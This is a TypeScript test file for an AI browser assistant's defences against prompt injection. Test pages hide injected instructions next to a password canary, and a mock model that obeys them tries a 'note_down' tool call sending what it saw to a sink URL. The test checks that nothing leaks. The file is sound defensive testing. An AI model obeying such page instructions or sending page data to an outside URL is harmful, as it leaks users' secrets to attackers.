import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CANARIES, canariesIn, NEVER_ASKED, ON_PAGE } from '../scripts/attack/canaries.ts';
import { CARRIERS, type Carrier } from '../scripts/attack/carriers.ts';
import { type Act, GOALS, type Goal, PAGE_TEXT } from '../scripts/attack/goals.ts';
import { type ChatBody, marker, obey, replyChunks } from '../scripts/attack/obey.ts';
import type { BrowserName } from '../scripts/browsers.ts';
import { type SinkProxy, startSinkProxy } from '../scripts/sink-proxy.ts';
import { BROWSERS } from './support/browsers.ts';
import { type ModelServer, startModelServer, streamChunks } from './support/model-server.ts';
import type { Panel } from './support/panel.ts';
import { IS_FULL } from './support/scale.ts';
import { type Stage, setStage } from './support/stage.ts';

const COUNTS: Record<BrowserName, number> = IS_FULL ? { chromium: 60, firefox: 20 } : { chromium: 12, firefox: 5 };
const DONE = 'That is all.';

/** `count` pairs of a carrier and a goal, spread over both. */
function pairs(count: number): { carrier: Carrier; goal: Goal }[] {
  return Array.from({ length: count }, (_, n) => {
    const carrier = CARRIERS[(n * 7) % CARRIERS.length];
    const goal = GOALS[(n * 3) % GOALS.length];
    if (!carrier || !goal) throw new Error('No such pair.');
    return { carrier, goal };
  });
}

/** The tools with effects are those of the test build. Other tools that a goal uses do not exist in any build. */
function buildActs(goal: Goal, seen: string, sink: string): Act[][] {
  const acts = goal.acts(seen).slice(0, 4);
  const effect: Act = { call: 'note_down', input: { url: `${sink}/?d=${encodeURIComponent(seen)}` } };
  return [...acts, [effect], [{ say: DONE }]];
}

/** Serves the page of each case, and records the requests it receives. */
async function startSite(pages: string[]): Promise<{ url: string; sunk: string[]; server: Server }> {
  const sunk: string[] = [];
  const server = createServer((request, response) => {
    const index = /^\/page\/(\d+)$/.exec(request.url ?? '')?.[1];
    if (index === undefined && request.url !== '/favicon.ico') sunk.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(pages[Number(index)] ?? '');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, sunk, server };
}

describe.each(BROWSERS)('a model that obeys instructions in pages, in %s', (name) => {
  const cases = pairs(COUNTS[name]);
  let stage: Stage;
  let proxy: SinkProxy;
  let site: Awaited<ReturnType<typeof startSite>>;
  let server: ModelServer;
  let obeyed = 0;
  const bodies: string[] = [];

  beforeAll(async () => {
    const password = `<input type="password" value="${CANARIES.passwordField}"><p>${PAGE_TEXT}</p>`;
    // If the reader filters the text, an attack never fires. So every third page also shows the text visibly.
    const page = ({ carrier }: (typeof cases)[number], n: number) =>
      `<!doctype html><title>Tides</title><main><h1>Tides</h1>${password}${carrier.html(marker(n))}${n % 3 === 0 ? `<p>${marker(n)}</p>` : ''}</main>`;
    site = await startSite(cases.map(page));
    proxy = await startSinkProxy();
    server = await startModelServer({
      obey: (request, response) => {
        const body = request as ChatBody;
        bodies.push(JSON.stringify(body));
        const acts = obey(
          body,
          (id, seen) => {
            obeyed++;
            const goal = cases[id]?.goal;
            return goal ? buildActs(goal, seen, site.url) : [];
          },
          [{ call: 'read_page', input: {} }],
        );
        return streamChunks(
          response,
          replyChunks(acts, body.tools !== undefined, () => `call_${crypto.randomUUID()}`),
        );
      },
    });
    stage = await setStage(name, { testTools: true, proxyPort: proxy.port, pageContext: 'on-demand' });
    await stage.addEndpoint(server.url);
  });
  afterAll(async () => {
    await stage?.close();
    await server?.close();
    await proxy?.close();
    site?.server.close();
  });

  /** Denies every request until the answer is complete. */
  async function denyAll(panel: Panel): Promise<void> {
    for (let tries = 0; tries < 200; tries++) {
      const state = await panel.page.evaluate(() => {
        const last = [...document.querySelectorAll('[role="log"] article')].at(-1);
        if (last?.getAttribute('aria-label') === 'Assistant' && last.getAttribute('aria-busy') === 'false')
          return 'ended';
        const deny = [...document.querySelectorAll<HTMLButtonElement>('[role="log"] button')].find(
          (each) => each.textContent === 'Don’t allow',
        );
        deny?.click();
        return 'open';
      });
      if (state === 'ended') return;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error('The answer did not end.');
  }

  test(`${COUNTS[name]} pairs of carrier and goal: no canary leaves, and no effect happens`, async () => {
    const shown: string[] = [];
    const requested: string[] = [];
    for (const index of cases.keys()) {
      const { page, tabId } = await stage.openPage(`${site.url}/page/${index}`);
      // Firefox grants no access by itself, so the tab is shared with the toolbar button, like a user.
      if (name === 'firefox') await stage.clickToolbarButton(page);
      const panel = await stage.openPanel(tabId);
      panel.page.on('request', (request) => {
        if (request.url().startsWith('http')) requested.push(request.url());
      });
      await panel.click('New chat');
      await panel.chooseModel('obey');
      await panel.ask('What does this page say?');
      await denyAll(panel);
      const html = await panel.page.$eval('[role="log"]', (log) => log.innerHTML);
      shown.push(html);
      await panel.page.close();
      await page.close();
    }
    const answers = shown.join('\n');
    const hrefs = [...answers.matchAll(/\shref="([^"]*)"/g)].map(([, href = '']) => href);
    // The site's pages were visited, and it received nothing else.
    expect(site.sunk.filter((each) => canariesIn(each).length > 0 || each.startsWith('POST'))).toEqual([]);
    expect(proxy.seen).toEqual([]);
    expect(requested).toEqual([]);
    expect(hrefs.filter((href) => !/^(?:https?:|mailto:)/.test(href) || canariesIn(href).length > 0)).toEqual([]);
    expect(answers).not.toMatch(/<(?:img|iframe|script|form|object|embed|meta|base|link)\b/);
    const prompts = bodies.join('\n');
    expect(NEVER_ASKED.filter((canary) => prompts.includes(canary))).toEqual([]);
    // The secret was available, and the model did try.
    expect(prompts).toContain(ON_PAGE);
    expect(obeyed).toBeGreaterThan(COUNTS[name]);
  });
});
